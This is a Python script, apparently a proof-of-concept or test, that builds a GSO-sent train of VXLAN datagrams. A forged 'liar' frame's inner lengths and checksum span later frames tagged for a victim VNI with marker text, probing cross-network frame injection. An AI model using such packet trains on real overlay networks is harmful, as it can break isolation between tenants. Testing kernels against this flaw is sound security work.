"""Sends a train of VXLAN datagrams by one call: a liar in one VNI, and in another one frames that it claims.

liar_train.py SOURCE DESTINATION VNI VICTIM

It is what the kernel makes of datagrams of one source port. The liar's IP and UDP lengths reach to the end of the train, its
checksum is that of a superframe. The frames behind it say OVXMARK:victim. Once over IPv4 and once over IPv6, with 2, 5
and 20 frames.
"""

import socket
import struct
import sys

SIZE = 500
UDP_SEGMENT = 103

source, destination = sys.argv[1], sys.argv[2]
vni, victim = int(sys.argv[3]), int(sys.argv[4])
out = socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET, socket.SOCK_DGRAM)
out.bind((source, 0))
out.connect((destination, 4789))


def ones_complement(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def liar(is_ipv6, claimed):
    udp_length = claimed - (54 if is_ipv6 else 34)
    if is_ipv6:
        addresses = socket.inet_pton(socket.AF_INET6, "fd17::21") + socket.inet_pton(socket.AF_INET6, "fd17::22")
        network = struct.pack("!IHBB", 6 << 28, udp_length, 17, 64) + addresses
    else:
        addresses = socket.inet_aton("172.17.42.21") + socket.inet_aton("172.17.42.22")
        network = struct.pack("!BBHHHBBH", 0x45, 0, claimed - 14, 7, 0x4000, 64, 17, 0) + addresses
        network = network[:10] + struct.pack("!H", ones_complement(network) ^ 0xFFFF) + network[12:]
    checksum = ones_complement(addresses + struct.pack("!HH", 17, udp_length))
    frame = bytes.fromhex("ffffffffffff020000000bad") + struct.pack("!H", 0x86DD if is_ipv6 else 0x0800) + network
    return (frame + struct.pack("!HHHH", 4000, 4001, udp_length, checksum)).ljust(SIZE, b"L")


def datagram(number, frame):
    return struct.pack("!BBHI", 8, 0, 0, number << 8) + frame


frame = (bytes.fromhex("ffffffffffff0200000b10e088b5") + b"OVXMARK:victim:-:").ljust(SIZE, b"v")
for is_ipv6 in (False, True):
    for count in (2, 5, 20):
        train = datagram(vni, liar(is_ipv6, count * (SIZE + 8) - 8)) + datagram(victim, frame) * (count - 1)
        out.sendmsg([train], [(socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("H", SIZE + 8))])
